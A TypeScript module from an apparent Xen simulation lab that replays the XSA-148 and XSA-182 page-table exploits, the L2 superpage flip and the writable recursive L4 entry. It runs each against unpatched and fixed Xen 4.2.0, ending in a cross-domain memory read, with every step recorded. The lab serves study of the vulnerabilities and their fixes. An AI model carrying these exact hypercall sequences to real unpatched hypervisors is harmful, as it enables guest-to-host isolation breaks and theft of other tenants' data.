/**
 * XSA-148 and XSA-182 as a PV guest would exploit them on Xen 4.2.0, and what the fixes change.
 *
 * XSA-148 (CVE-2015-7835; fixed by xen.git fe360c90ea): mod_l2_entry's fast path (xen/arch/x86/mm.c,
 * Xen 4.2.0) skips revalidation when an update keeps an L2 entry's frame and presence, and
 * L2_DISALLOW_MASK never contains _PAGE_PSE; so an entry that points to an L1 can be turned
 * into a 2 MiB superpage over that L1's frame and its 511 neighbours, writable.
 * XSA-182 (CVE-2016-6258; fixed by e1bff4c2ea): mod_l4_entry's fast path (same file) compares only
 * the frame and _PAGE_PRESENT, so a read-only linear (recursive) L4 entry, which Xen allows, can
 * be made writable without the check that refuses writable linear page tables.
 * In both, the guest ends with a writable mapping of one of its page tables, writes an L1 entry
 * with a plain store that Xen never sees, and reads a page of another domain through it.
 */
import { LabError, describeValue } from '../../errors';
import { TraceRecorder } from '../../trace';
import { walk, type WalkResult } from '../../x86/walk';
import { pageTypeName, PGT_pinned, PGT_type_mask } from '../../xen';
import { auditPvMappings } from './audit';
import {
  VICTIM_WORDS, alignedFreeFrame, hostOptions, kernelVa, l4Mfn, makeWorld, mmuUpdate, tablesFor, vaText,
  type XsaWorld,
} from './guest';

export type XsaId = 'xsa-148' | 'xsa-182';
export const XSA_IDS: readonly XsaId[] = ['xsa-148', 'xsa-182'];

/** Xen's view of one table on a walk: the machine frame, its owner, page type and counts. */
export interface FrameVerdict {
  level: number;
  mfn: string;
  owner: number;
  type: string;
  typeCount: number;
  refCount: number;
  pinned: boolean;
}

export interface XsaStep {
  /** what the guest does, in words */
  action: string;
  /** the hypercall issued ('mmu_update'), or null for a plain load or store by the guest */
  call: string | null;
  /** the hypercall's return value (0, or -errno as Xen returns it), or null */
  result: number | null;
  /** the lines Xen printed during the step */
  xen: string[];
  /** broken invariants after the step (empty when both hold) */
  violations: string[];
  /** a plain load ('read') or store ('write') by the guest, or undefined for a hypercall */
  access?: 'read' | 'write';
  /** a load or store: its virtual address (16 hex digits) */
  va?: string;
  /** a load or store: the value written or read (16 hex digits) */
  value?: string;
  /** a load or store: the hardware's walk of `va` through the guest's tables, before the access */
  walk?: WalkResult;
  /** a load or store: Xen's view of each table frame on that walk */
  frames?: FrameVerdict[];
}

export interface XsaResult {
  id: XsaId;
  patched: boolean;
  /** Xen accepted the update that opens the hole */
  accepted: boolean;
  /** the error code Xen returned for it, or null when accepted */
  errorCode: number | null;
  /** broken invariants at the end */
  violations: string[];
  steps: XsaStep[];
  /** what the guest read from the victim's page at the end, or null when it never got there */
  stolen: string | null;
}

const PAGE = 4096;
const P = 0x1;
const RW = 0x2;
const US = 0x4;
const A = 0x20;
const D = 0x40;
const PSE = 0x80;
/** The flags libxc's builder gives a 64-bit guest's L2 entries (PRESENT|RW|USER|ACCESSED|DIRTY). */
const L2_PROT = P | RW | US | A | D;
const hex16 = (v: bigint): string => BigInt.asUintN(64, v).toString(16).padStart(16, '0');

class Recorder {
  readonly steps: XsaStep[] = [];
  constructor(private readonly w: XsaWorld) {}

  /** Runs `f` as one step and records what Xen printed and the invariants after it. */
  step(action: string, call: string | null, f: () => Partial<XsaStep>): XsaStep {
    const mark = this.w.host.console.lines.length;
    const extra = f();
    const s: XsaStep = {
      action, call, result: null, ...extra,
      xen: this.w.host.console.lines.slice(mark),
      violations: auditPvMappings(this.w.host, this.w.attacker.domain),
    };
    this.steps.push(s);
    return s;
  }

  hypercall(action: string, tableMfn: number, index: number, val: bigint): number {
    return this.step(action, 'mmu_update', () => ({ result: mmuUpdate(this.w, tableMfn, index, val) })).result as number;
  }

  /** A plain store by the guest kernel (ring 3 on a 64-bit PV guest): no hypercall, Xen sees nothing. */
  store(action: string, va48: number, value: bigint): void {
    this.step(action, null, () => {
      const seen = this.look(va48, 'write');
      this.w.attacker.vcpu.write64(va48, value);
      return { ...seen, value: hex16(value) };
    });
  }

  /** A plain load by the guest kernel. */
  load(action: string, va48: number): bigint {
    let v = 0n;
    this.step(action, null, () => {
      const seen = this.look(va48, 'read');
      v = this.w.attacker.vcpu.read64(va48);
      return { ...seen, value: hex16(v) };
    });
    return v;
  }

  private look(va48: number, kind: 'read' | 'write'): Partial<XsaStep> {
    const w = walk(this.w.host.memory, { cr3: BigInt(l4Mfn(this.w)) * BigInt(PAGE), efer: { nxe: true }, cr0: { wp: true } },
      BigInt(`0x${vaText(va48)}`), { kind, user: true });
    const ft = this.w.host.frameTable;
    const frames = w.steps.map((s) => {
      const mfn = Math.floor(Number(s.entryAddress) / PAGE);
      return {
        level: s.level, mfn: mfn.toString(16), owner: ft.owner[mfn], type: pageTypeName(ft.typeInfo[mfn] & PGT_type_mask),
        typeCount: ft.typeCountOf(mfn), refCount: ft.refCountOf(mfn), pinned: (ft.typeInfo[mfn] & PGT_pinned) !== 0,
      };
    });
    return { access: kind, va: vaText(va48), walk: w, frames };
  }
}

/** XSA-148: an L2 entry that points to an L1 turned into a writable superpage over it. */
function xsa148(r: Recorder, w: XsaWorld): { flip: number; stolen: bigint | null } {
  // Two unused 2 MiB slots of the kernel's L2, far above the bootstrap mapping.
  const [i, j] = [400, 401];
  const vaI = kernelVa(i * 2 * 2 ** 20);
  const vaJ = kernelVa(j * 2 * 2 ** 20);
  const l2 = tablesFor(w, vaI)[2];
  const a = alignedFreeFrame(w);
  const asTable = (BigInt(a) * BigInt(PAGE)) | BigInt(L2_PROT);
  r.hypercall(`L2[${i}] := frame ${a.toString(16)} as an L1 (Xen validates it and types it PGT_l1_page_table)`, l2, i, asTable);
  r.hypercall(`L2[${j}] := the same L1 (a second reference to it)`, l2, j, asTable);
  const flip = r.hypercall(`L2[${j}] := the same frame with _PAGE_PSE added: a 2 MiB superpage over frames ${a.toString(16)}..${(a + 511).toString(16)}, writable`, l2, j, asTable | BigInt(PSE));
  if (flip !== 0) return { flip, stolen: null };
  const evil = (BigInt(w.victimMfn) * BigInt(PAGE)) | BigInt(P | RW | US | A | D);
  r.store(`through the superpage, write entry 0 of the L1 (frame ${a.toString(16)}): map domain 2's frame ${w.victimMfn.toString(16)}`, vaJ, evil);
  return { flip, stolen: r.load(`read the first word at ${vaText(vaI)}, which L2[${i}] now translates through the edited L1`, vaI) };
}

/** XSA-182: a read-only recursive L4 entry made writable. */
function xsa182(r: Recorder, w: XsaWorld): { flip: number; stolen: bigint | null } {
  const s = 384; // a free slot of the guest's half of its L4
  const l4 = l4Mfn(w);
  const self = (BigInt(l4) * BigInt(PAGE)) | BigInt(P | A);
  r.hypercall(`L4[${s}] := the L4 itself, read-only (a linear page table: Xen allows it without _PAGE_RW)`, l4, s, self);
  const flip = r.hypercall(`L4[${s}] := the same, with _PAGE_RW added`, l4, s, self | BigInt(RW));
  if (flip !== 0) return { flip, stolen: null };
  // A kernel page of the bootstrap mapping, and the address at which the recursive slot shows
  // the L1 entry that maps it: L4[s] -> L4 (as an L3) -> L3 (as an L2) -> L2 (as an L1) -> that L1.
  const target = kernelVa(0x10 * PAGE);
  const idx = (level: number): number => Math.floor(target / 2 ** (12 + 9 * (level - 1))) % 512;
  const entryVa = s * 2 ** 39 + idx(4) * 2 ** 30 + idx(3) * 2 ** 21 + idx(2) * 2 ** 12 + idx(1) * 8;
  const evil = (BigInt(w.victimMfn) * BigInt(PAGE)) | BigInt(P | RW | US | A | D);
  r.store(`through L4[${s}], write the L1 entry that maps ${vaText(target)}: map domain 2's frame ${w.victimMfn.toString(16)}`, entryVa, evil);
  return { flip, stolen: r.load(`read the first word at ${vaText(target)}`, target) };
}

/**
 * Runs one XSA's exploit on Xen 4.2.0 as released (`patched: false`) or with that XSA's fix
 * applied, from a freshly built host, and reports each step with what Xen printed and which
 * invariants broke. Deterministic: the same arguments give the same result.
 */
export function xsaScenario(id: XsaId, options: { patched: boolean } = { patched: false }): XsaResult {
  if (!(XSA_IDS as readonly unknown[]).includes(id)) {
    throw new LabError('UNKNOWN_XSA', `id must be one of ${XSA_IDS.map((x) => `'${x}'`).join(', ')}; got ${describeValue(id)}`);
  }
  if (typeof options !== 'object' || options === null) {
    throw new LabError('WRONG_TYPE', `options must be an object { patched: boolean }; got ${describeValue(options)}`);
  }
  for (const k of Object.keys(options)) {
    if (k !== 'patched') throw new LabError('BAD_CONFIG', `unknown option ${JSON.stringify(k)}; allowed: patched`);
  }
  if (typeof options.patched !== 'boolean') {
    throw new LabError('WRONG_TYPE', `options.patched must be true or false; got ${describeValue(options.patched)}`);
  }
  const w = makeWorld(hostOptions(id, options.patched, new TraceRecorder()));
  const r = new Recorder(w);
  const { flip, stolen } = id === 'xsa-148' ? xsa148(r, w) : xsa182(r, w);
  return {
    id, patched: options.patched,
    accepted: flip === 0,
    errorCode: flip === 0 ? null : flip,
    violations: auditPvMappings(w.host, w.attacker.domain),
    steps: r.steps,
    stolen: stolen === null ? null : hex16(stolen),
  };
}

/** The victim's first two words as the attacker would read them (for checking a result). */
export function victimFirstQword(): string {
  return hex16((BigInt(VICTIM_WORDS[1]) << 32n) | BigInt(VICTIM_WORDS[0]));
}
